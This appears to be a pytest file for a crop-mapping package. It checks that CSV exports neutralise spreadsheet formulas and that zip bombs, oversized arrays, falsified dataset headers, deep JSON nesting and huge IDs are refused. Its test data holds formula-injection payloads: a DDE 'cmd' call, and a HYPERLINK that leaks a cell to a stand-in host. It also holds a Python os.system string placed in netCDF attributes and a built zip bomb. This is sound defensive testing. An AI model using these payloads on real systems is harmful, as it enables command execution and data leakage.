"""Fault cases: files written here as a hostile source would write them. Text from data that a
spreadsheet would run, archives and tables that expand past any use, dataset headers that
declare more than their files hold. Each is refused with a named error or written inert."""

from __future__ import annotations

import csv
import io
import json
import resource
import zipfile

import numpy as np
import pytest

from thermocrop.core.accuracy import assess_accuracy, report_rows, write_csv, write_matrix_csv
from thermocrop.core.classmap import ClassMap
from thermocrop.core.errors import DatasetError, InputError
from thermocrop.core.io.csv_cells import inert_frame, inert_text
from thermocrop.core.pixel_sets import PixelSets, open_dataset, save_dataset
from thermocrop.training.importers.table import read_table, table_pixel_sets

gpd = pytest.importorskip("geopandas")

HOSTILE = ["=HYPERLINK(\"http://x.invalid/?\"&A1,\"open\")", "-2+3+cmd|' /C calc'!A0", "+1+1", "@SUM(A1:A9)",
           "\tx", "\r=1"]


def _rows(path):
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


def _peak_kb():
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss


def test_inert_text_by_hand():
    for text in HOSTILE:
        assert inert_text(text) == "'" + text
    for same in ("wheat", "-12", "+3.5", "-1e-3", "", "a=b", 7, -2.5, None):
        assert inert_text(same) == same


def test_accuracy_tables_write_class_names_inert_and_numbers_as_numbers(tmp_path):
    # Two hostile class names; a map worse than chance so kappa is negative (starts with '-').
    mapped = [HOSTILE[0], HOSTILE[0], HOSTILE[1], HOSTILE[1], HOSTILE[0]]
    reference = [HOSTILE[1], HOSTILE[1], HOSTILE[0], HOSTILE[0], HOSTILE[0]]
    report = assess_accuracy(mapped, reference)
    rows = _rows(write_csv(report, tmp_path / "report.csv"))
    body = [dict(zip(rows[0], r)) for r in rows[1:]]
    assert sorted(r["class"] for r in body[:-1]) == sorted("'" + c for c in HOSTILE[:2])
    expected = report_rows(report)
    overall = body[-1]
    assert overall["class"] == "overall"
    assert float(overall["kappa"]) == pytest.approx(expected[-1]["kappa"], rel=1e-5) and overall["kappa"].startswith("-")
    matrix = _rows(write_matrix_csv(report, tmp_path / "matrix.csv"))
    assert matrix[0][1:] == ["'" + c for c in report.classes]
    assert [r[0] for r in matrix[1:]] == ["'" + c for c in report.classes]
    assert [[int(v) for v in r[1:]] for r in matrix[1:]] == report.matrix.astype(int).tolist()
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in matrix for cell in r)


def test_class_maps_and_gdd_tables_are_written_inert(tmp_path):
    cmap = ClassMap.from_mapping({"-12": HOSTILE[0], "BTH": "winter_wheat", "@x": "+cmd"})
    rows = _rows(cmap.to_csv(tmp_path / "map.csv"))
    assert rows == [["code", "class", "name"], ["-12", "'" + HOSTILE[0], ""], ["BTH", "winter_wheat", ""],
                    ["'@x", "'+cmd", ""]]
    pd = pytest.importorskip("pandas")
    frame = pd.DataFrame({"parcel_id": ["=1+2", "-7", "A-1"], "gdd_20170405": [-1.25, 0.0, 12.5]})
    text = inert_frame(frame).to_csv(index=False, float_format="%.2f")
    assert text.splitlines() == ["parcel_id,gdd_20170405", "'=1+2,-1.25", "-7,0.00", "A-1,12.50"]
    assert frame["parcel_id"].tolist() == ["=1+2", "-7", "A-1"]  # the caller's frame is left alone


def test_a_parcel_layer_written_as_csv_has_inert_text_cells(tmp_path):
    from shapely.geometry import box

    from thermocrop.core.io.vector import write_with_fields

    layer = tmp_path / "parcels.gpkg"
    gpd.GeoDataFrame({"parcel_id": [HOSTILE[1], "-12"], "area": [-3.5, 2.0]},
                     geometry=[box(0, 0, 10, 10), box(10, 0, 20, 10)], crs="EPSG:32632").to_file(layer)
    out = write_with_fields(layer, {"crop_pred": np.array([HOSTILE[3], "maize"], dtype=object),
                                    "crop_conf": np.array([0.5, 0.25])}, tmp_path / "out.csv")
    rows = {r["parcel_id"]: r for r in csv.DictReader(io.StringIO(out.read_text(), newline=""))}
    assert set(rows) == {"'" + HOSTILE[1], "-12"}
    assert rows["'" + HOSTILE[1]]["crop_pred"] == "'" + HOSTILE[3] and rows["-12"]["crop_pred"] == "maize"
    assert float(rows["'" + HOSTILE[1]]["area"]) == -3.5 and float(rows["-12"]["crop_conf"]) == 0.25
    assert rows["-12"]["WKT"].startswith("POLYGON")


def test_a_spreadsheet_that_unpacks_a_thousandfold_is_refused(tmp_path):
    bomb = tmp_path / "parcels.xlsx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("xl/worksheets/sheet1.xml", b"<sheetData>" + b" " * (30 * 1024 * 1024) + b"</sheetData>")
    with pytest.raises(InputError, match="sheet1.xml.* more than 200 times; it is refused as a zip bomb"):
        read_table(bomb)


def test_a_table_whose_parcels_times_dates_would_fill_memory_is_refused(tmp_path):
    # 8,000 rows: each parcel on its own date, so the (parcels, dates, bands) array would take
    # 8,000 x 8,000 x 10 x 8 bytes = 5.1 GB though the file holds a few hundred kB.
    days = np.datetime64("2000-01-01") + np.arange(8000)
    lines = ["parcel_id,date," + ",".join(f"B{b}" for b in ("02", "03", "04", "05", "06", "07", "08", "8A",
                                                                  "11", "12"))]
    lines += [f"p{i},{d}," + ",".join(["1000"] * 10) for i, d in enumerate(days)]
    (tmp_path / "t.csv").write_text("\n".join(lines))
    before = _peak_kb()
    with pytest.raises(InputError, match=r"8,000 parcels x 8,000 dates would take 5.1 GB in memory"):
        table_pixel_sets(tmp_path / "t.csv", weather=tmp_path / "unused.csv")
    assert _peak_kb() - before < 1_000_000


def _small_dataset(tmp_path):
    n, t, s = 3, 2, 4
    ps = PixelSets(pixels=np.ones((n, t, 10, s), np.uint16), pixel_mask=np.ones((n, t, s), bool),
                   date_mask=np.ones((n, t), bool), gdd=np.zeros((n, t), np.float32),
                   dates=np.array(["2017-04-01", "2017-05-01"], dtype="datetime64[D]"),
                   day_of_season=np.array([90.0, 120.0], np.float32), parcel_ids=np.array(["a", "b", "c"]),
                   status=np.array(["ok"] * n), classes=("x",))
    return save_dataset(ps, tmp_path / "ds")


def test_dataset_headers_that_declare_more_than_their_files_are_refused(tmp_path):
    folder = _small_dataset(tmp_path)
    pixels = folder / "pixels.npy"
    data = pixels.read_bytes()
    end = data.index(b"\n") + 1
    text = data[10:end - 1].replace(b"(3, 2, 10, 4)", b"(30000000, 2, 10, 4)").rstrip(b" ")
    pixels.write_bytes(data[:10] + text.ljust(end - 11, b" ") + b"\n" + data[end:])
    before = _peak_kb()
    with pytest.raises(DatasetError, match=r"pixels.npy declares a uint16 array of shape \(30000000, 2, 10, 4\)"):
        open_dataset(folder, mmap=False)  # 2.4 GB declared, 240 bytes held
    assert _peak_kb() - before < 500_000
    header = json.loads((folder / "dataset.json").read_text())
    pixels.write_bytes(data)
    (folder / "dataset.json").write_text(json.dumps({**header, "n_parcels": 4}))
    with pytest.raises(DatasetError, match=r"pixels.npy holds a uint16 array of shape \(3, 2, 10, 4\); .* implies "
                                           r"shape \(4, 2, 10, 4\)"):
        open_dataset(folder)
    nested = "[" * 100_000 + "]" * 100_000
    (folder / "dataset.json").write_text(json.dumps({**header, "meta": "X"}).replace('"X"', nested))
    with pytest.raises(DatasetError, match="dataset.json nests lists or mappings more than 32 deep"):
        open_dataset(folder)


def test_netcdf_attributes_are_read_as_text(tmp_path):
    netCDF4 = pytest.importorskip("netCDF4")
    from thermocrop.core.errors import WeatherError
    from thermocrop.core.thermal.weather import read_daily_temperature

    marker = tmp_path / "ran"
    code = f"__import__('os').system('touch {marker}')"
    path = tmp_path / "grid.nc"
    with netCDF4.Dataset(path, "w") as nc:
        for name, size in (("time", 5), ("lat", 2), ("lon", 2)):
            nc.createDimension(name, size)
        t = nc.createVariable("time", "f8", ("time",))
        t.units, t[:] = "days since 2020-01-01", np.arange(5)
        for name, values in (("lat", [48.0, 48.1]), ("lon", [11.0, 11.1])):
            v = nc.createVariable(name, "f8", (name,))
            v.units = "degrees_north" if name == "lat" else "degrees_east"
            v[:] = values
        for name, value in (("tn", 1.0), ("tx", 9.0)):
            v = nc.createVariable(name, "f4", ("time", "lat", "lon"))
            v.units, v.cell_methods, v.long_name = code, "=HYPERLINK(\"x\")", "{{7*7}}"
            v[:] = np.full((5, 2, 2), value, np.float32)
    with pytest.raises(WeatherError, match=r"has units \"__import__\('os'\).system.*not a temperature"):
        read_daily_temperature(path, [11.02], [48.02], "EPSG:4326", "2020-01-01", "2020-01-05")
    assert not marker.exists()


def test_a_parcel_id_of_a_million_characters_is_refused(tmp_path):
    bands = ",".join(f"B{b}" for b in ("02", "03", "04", "05", "06", "07", "08", "8A", "11", "12"))
    (tmp_path / "t.csv").write_text(f"parcel_id,date,{bands}\n{'7' * 10 + 'x' * 1_000_000},2017-04-01,"
                                    + ",".join(["1000"] * 10) + "\n")
    with pytest.raises(InputError, match="parcel id '7777777777xxx.*is 1,000,010 characters long; ids of up to 256"):
        table_pixel_sets(tmp_path / "t.csv", weather=tmp_path / "unused.csv")
